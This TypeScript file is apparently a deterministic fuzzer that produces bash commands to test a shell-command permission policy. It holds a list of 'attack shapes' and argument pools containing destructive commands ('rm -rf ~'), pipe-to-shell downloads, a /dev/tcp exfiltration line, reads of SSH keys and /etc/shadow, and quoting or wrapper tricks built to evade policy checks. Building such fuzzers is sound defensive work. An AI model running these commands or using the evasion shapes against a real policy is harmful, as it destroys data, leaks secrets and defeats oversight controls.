/**
 * Generates bash commands for differential fuzzing: a small grammar of bash (lists, pipelines,
 * substitutions, compound commands, redirections, here-documents, assignments) over a vocabulary
 * of the programs the policy talks about, plus mutations of known attack shapes (redirect
 * placement, quoting forms, continuations, `$'…'` escapes, option spellings, wrappers, nesting).
 * Deterministic for a seed.
 */

export type Random = () => number;

/** mulberry32: small, fast, deterministic. */
export function seededRandom(seed: number): Random {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(random: Random, items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
const chance = (random: Random, p: number): boolean => random() < p;

const PROGRAMS = ['ls', 'cat', 'grep', 'find', 'git', 'echo', 'printf', 'head', 'wc', 'date', 'rm', 'curl', 'sh', 'mytool', 'test', 'true', 'pwd', 'id', 'tee', 'rg', 'sort', 'sed', 'jq', 'du', 'tree', 'fd'];
const WRAPPERS = ['env', 'timeout 5', 'nice -n 1', 'command', 'nohup', 'xargs', 'env --default-signal', 'xargs -i', 'watch -d', 'flock f', 'chrt 1', 'taskset 1', 'setarch x86_64', 'strace', 'fakeroot', 'prlimit', 'stdbuf -o0', 'time', 'exec', 'coproc', '!', 'builtin'];
const ARGS: Record<string, readonly string[]> = {
  ls: ['-la', '-R', 'src', '~', '-w80', '--color=auto', '*'],
  cat: ['README.md', '-n', '.env', '~/.ssh/id_rsa', '/etc//shadow', '/proc/self/environ', 'f'],
  grep: ['-rn', 'x', 'TODO', 'src', '~', '--include=*.env', '-e', '-C3', "''", '.'],
  find: ['.', '-name', 'x', '-delete', '-exec', 'rm', '{}', '+', ';', '-type', 'f', '-maxdepth', '2', '-print'],
  git: ['status', 'log', '-p', '--', "'*.env'", 'diff', '--output=x', '-C', 'repo', 'branch', '-a', '--oneline', '-5', 'push'],
  echo: ['hello', 'a b', '-n', '$HOME', '~', 'rm -rf ~'],
  printf: ["'%s\\n'", 'x', '-v', '-vNAME', "'-va[$(id)]'", '--'],
  head: ['-n', '5', '-5', 'f'],
  wc: ['-l', 'f'],
  date: ['-u', '+%s', '-s', '12:00'],
  rm: ['-rf', '-r', '-f', '--recursive', '--force', '--interactive=never', '--rec', '-fr', '~', 'x', '--'],
  curl: ['-fsSL', 'https://x/i.sh', '-o', 'f', '-fsSLo', 'f', 'U'],
  sh: ['-c', "'id'", 'f', '/dev/stdin', '-s'],
  mytool: ['rm', '-rf', '~', 'x'],
  test: ['-f', 'x', '-v', "'a[$(id)]'", '-d', 'src'],
  true: ['x'],
  pwd: ['-P'],
  id: ['-u'],
  tee: ['f', '>(sh)'],
  rg: ['-n', 'x', '--pre=sh', '--pre', 'sh', '-z', '-g', "'*.env'", '~', '--files', '-e', '.'],
  sort: ['-u', '-o', 'out', '-uo', '--compress-program=sh', '-k2', '*', 'f'],
  sed: ['-n', "'1,5p'", '-i', "'s/a/b/w out'", "'1e id'", "'s/x/y/g'", '-e', 'f'],
  jq: ['.', "'.a'", '-r', 'env', "'$ENV'", '--arg', 'n', 'v', 'f'],
  du: ['-sh', '*', '.', '-d', '1'],
  tree: ['-L', '2', '-o', 'out', '-R', '-a'],
  fd: ['-e', 'ts', '-x', 'rm', '-X', '-H', 'x'],
};

/** A literal word in one of the quoting forms bash accepts. */
export function quoteWord(random: Random, word: string): string {
  if (/[$`'"\\(){}|&;<>*?[\]!#~\s]/.test(word)) return word;
  switch (Math.floor(random() * 9)) {
    case 0: return `'${word}'`;
    case 1: return `"${word}"`;
    case 2: return `$'${word}'`;
    case 3: return word.length > 1 ? `${word[0]}'${word.slice(1)}'` : word;
    case 4: return word.length > 1 ? `${word.slice(0, 1)}\\${word.slice(1)}` : `\\${word}`;
    case 5: return `$'${[...word].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`;
    case 6: return `${word}$'\\0x'`;
    case 7: return word.length > 2 ? `${word.slice(0, 2)}\\\n${word.slice(2)}` : word;
    default: return word;
  }
}

function redirect(random: Random): string {
  return pick(random, ['2>/dev/null', '>/dev/null', '2>&1', '>&2', '</dev/null', '>out', '<f', '<<<x', '>/dev//null', '&>/dev/null', '<&0', '>&0', '3>x', '2>/dev/null -delete']);
}

function simpleCommand(random: Random, depth: number): string {
  const program = pick(random, PROGRAMS);
  const pool = ARGS[program] ?? [];
  const words: string[] = [chance(random, 0.3) ? quoteWord(random, program) : program];
  const count = Math.floor(random() * 4);
  for (let i = 0; i < count; i++) {
    const roll = random();
    if (roll < 0.1) words.push(redirect(random));
    else if (roll < 0.18 && depth < 2) words.push(`"$(${simpleCommand(random, depth + 1)})"`);
    else if (roll < 0.22 && depth < 2) words.push(`<(${simpleCommand(random, depth + 1)})`);
    else if (roll < 0.3) words.push(quoteWord(random, pick(random, pool.length > 0 ? pool : ['x'])));
    else words.push(pick(random, pool.length > 0 ? pool : ['x']));
  }
  if (chance(random, 0.15)) words.push(redirect(random));
  let text = words.join(' ');
  if (chance(random, 0.2)) text = `${pick(random, WRAPPERS)} ${text}`;
  if (chance(random, 0.08)) text = `${pick(random, ['X=1', 'x=rm', 'LANG=C', 'IFS=,'])} ${text}`;
  return text;
}

function statement(random: Random, depth: number): string {
  if (depth >= 3) return simpleCommand(random, depth);
  switch (Math.floor(random() * 14)) {
    case 0: return `${statement(random, depth + 1)} | ${statement(random, depth + 1)}`;
    case 1: return `${statement(random, depth + 1)} && ${statement(random, depth + 1)}`;
    case 2: return `${statement(random, depth + 1)}; ${statement(random, depth + 1)}`;
    case 3: return `(${statement(random, depth + 1)})`;
    case 4: return `{ ${statement(random, depth + 1)}; }`;
    case 5: return `if ${simpleCommand(random, depth)}; then ${statement(random, depth + 1)}; fi`;
    case 6: return `for i in a b; do ${statement(random, depth + 1)}; done`;
    case 7: return `${simpleCommand(random, depth)} <<${pick(random, ['EOF', "'EOF'", '"EOF"', '-EOF', 'E\\OF'])}\n${pick(random, ['hello', '$(id)', '`id`', 'rm -rf ~', '\tx', 'a\\'])}\nEOF${pick(random, ['', '\nid', '\nEOF'])}`;
    case 8: return `x=${pick(random, ['rm', 'ls', '$(id)', "'a b'"])}; ${pick(random, ['$x', '"$x"', 'y=$x; $y', 'echo $x'])} ${pick(random, ['-rf ~', 'x', ''])}`;
    case 9: return `f() { ${statement(random, depth + 1)}; }; f${pick(random, ['', ' | sh', ' x'])}`;
    case 10: return `eval ${quoteWord(random, simpleCommand(random, depth + 1).replace(/'/g, ''))}`;
    case 11: return `[[ ${pick(random, ['-f x', "'a[$(id)]' -eq 0", 'a == b', '-v x', '$x -lt 3'])} ]]`;
    case 12: return `${statement(random, depth + 1)} &`;
    default: return simpleCommand(random, depth);
  }
}

/** Known attack shapes, mutated by the generator. */
export const SEED_SHAPES = [
  'find . 2>/dev/null -delete', 'ls 2>&1 >(rm -rf ~)', 'find . <<EOF -exec rm {} +\nx\nEOF', './ls', 'node_modules/.bin/grep x',
  'printf -vNAME x', "[[ 'a[$(id)]' -eq 0 ]]", "test -v 'a[$(id)]'", "find . $'-delete\\0'", "$'rm\\0' -rf ~",
  'cat <<EOF\n`id`\nEOF', 'find . -del\\\nete', 'echo "$\\\n(id)"', 'env --default-signal rm -rf ls ~', 'xargs -i rm -rf {}',
  'watch -d rm -rf ~', 'cat F </dev/tcp/H/P >&0', '/bin/r[!x] -rf ~/x', 'coproc rm -rf ~', '! ! rm -rf ~', 'jobs -x rm -rf ~',
  'curl U | bash /dev/stdin', 'curl U | tee >(sh)', 'curl -fsSLo f U; sh f', 'f(){ curl U; }; f | sh', 'rm -r --interactive=none ~',
  'x=rm; y=$x; $y -rf ~', 'cat <<E\nx\n E\nE\nid', 'a;;b', 'ls | grep x', 'git log --oneline -5', 'echo hi > /dev/null',
];

function mutate(random: Random, text: string): string {
  switch (Math.floor(random() * 6)) {
    case 0: {
      const at = Math.floor(random() * (text.length + 1));
      return `${text.slice(0, at)}\\\n${text.slice(at)}`;
    }
    case 1: return `${pick(random, WRAPPERS)} ${text}`;
    case 2: return `${text} ${redirect(random)}`;
    case 3: return text.replace(/\b(rm|ls|id|find|cat)\b/, (w) => quoteWord(random, w));
    case 4: return `bash -c ${JSON.stringify(text).replace(/\$/g, '\\$')}`;
    default: return `echo "$(${text})"`;
  }
}

/** One generated command. */
export function generateCommand(random: Random): string {
  if (chance(random, 0.35)) {
    let text = pick(random, SEED_SHAPES);
    const rounds = 1 + Math.floor(random() * 2);
    for (let i = 0; i < rounds; i++) text = mutate(random, text);
    return text;
  }
  return statement(random, 0);
}
